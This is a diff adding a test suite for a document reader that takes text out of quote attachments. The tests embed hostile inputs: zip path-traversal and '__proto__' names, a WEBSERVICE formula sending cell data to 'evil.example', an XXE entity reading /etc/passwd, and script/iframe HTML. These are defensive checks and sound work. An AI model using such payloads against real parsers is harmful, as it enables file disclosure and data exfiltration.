@@ -1,0 +1,80 @@
+import { strFromU8, strToU8, unzipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import { makeEml, makeOds, makePdf, makeXlsx, makeZip, zipTexts } from '../../../test/quotes/make-files.ts';
+import { readSetting } from '../../../test/quotes/read-setting.ts';
+import { readFile } from './read-file.ts';
+
+const good = strToU8('Item,Maker\n1,Dahua\n');
+
+/** Each file of a message with its error, or with how many lines it has. */
+async function outcomes(name: string, bytes: Uint8Array): Promise<Record<string, string | number>> {
+  const files = await readFile(name, bytes, readSetting);
+  return Object.fromEntries(files.map((file) => [file.name, file.error?.code ?? file.lines.length]));
+}
+
+describe('bad files among good ones', () => {
+  it('each has its own line, and the good ones are read', async () => {
+    const mail = makeEml('<p>Offer</p>', {
+      'empty.csv': new Uint8Array(0),
+      'broken.xlsx': makeXlsx({ A: [['x']] }).slice(0, 200),
+      'broken.pdf': strToU8('%PDF-1.7 nothing'),
+      'named.csv': makeXlsx({ A: [['x']] }),
+      'noise.bin': Uint8Array.of(0, 1, 2, 3),
+      'old.xls': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
+      'good.csv': good,
+      'scan.pdf': makePdf([[]]),
+    });
+    expect(await outcomes('m.eml', mail)).toEqual({
+      'm.eml': 3,
+      'm.eml!empty.csv': 'empty',
+      'm.eml!broken.xlsx': 'damaged',
+      'm.eml!broken.pdf': 'damaged',
+      'm.eml!named.csv': 'wrong-extension',
+      'm.eml!noise.bin': 'unknown-format',
+      'm.eml!old.xls': 'save-as-xlsx',
+      'm.eml!good.csv': 2,
+      'm.eml!scan.pdf': 1,
+    });
+  });
+
+  it('takes no name in an archive for more than a name', async () => {
+    const zip = makeZip({ '../../etc/passwd.csv': good, __proto__: good, 'constructor.csv': good });
+    const read = await readFile('q.zip', zip, readSetting);
+    expect(read.map(({ name }) => name)).toContain('q.zip!../../etc/passwd.csv');
+    expect(read.find(({ name }) => name === 'q.zip!constructor.csv')?.lines).toHaveLength(2);
+    expect(Object.keys(Object.prototype)).toEqual([]);
+  });
+});
+
+describe('documents with more than text in them', () => {
+  it('shows what a formula shows, and follows no link or macro of it', async () => {
+    const parts = unzipSync(makeXlsx({ A: [['x']] }));
+    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+    const formula = '<c r="A1" t="str"><f>WEBSERVICE("https://evil.example/"&amp;A2)</f><v>Axis</v></c>';
+    parts['xl/worksheets/sheet1.xml'] = strToU8(sheet.replace(/<c r="A1".*<\/c>/, formula));
+    const [file] = await readFile(
+      'q.xlsx',
+      makeZip({ ...parts, 'xl/vbaProject.bin': strToU8('Shell') }),
+      readSetting,
+    );
+    expect(file?.lines.map(({ text }) => text)).toEqual(['Axis']);
+  });
+
+  it('fetches and expands no entity that a spreadsheet declares', async () => {
+    const evil =
+      '<!DOCTYPE r [<!ENTITY a "Hikvision"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>';
+    const parts = unzipSync(makeOds({ A: [['PLACE']] }));
+    const content = strFromU8(parts['content.xml'] ?? new Uint8Array())
+      .replace('PLACE', '&b;&c;')
+      .replace('?>', `?>${evil}`);
+    const [file] = await readFile('q.ods', zipTexts({ 'content.xml': content }), readSetting);
+    expect(file?.lines.map(({ text }) => text).join()).not.toMatch(/root:|Hikvision/);
+  });
+
+  it('reads what a page shows, not what its scripts and frames would', async () => {
+    const html = `<p onclick="x()">Axis</p><script>document.write('Hikvision')</script><iframe srcdoc="<p>Dahua</p>">ZTE</iframe>
+      <svg><text>Hytera</text></svg><object data="x">Huawei</object><noscript>DJI</noscript>`;
+    const [file] = await readFile('q.html', strToU8(html), readSetting);
+    expect(file?.lines.map(({ text }) => text)).toEqual(['Axis']);
+  });
+});
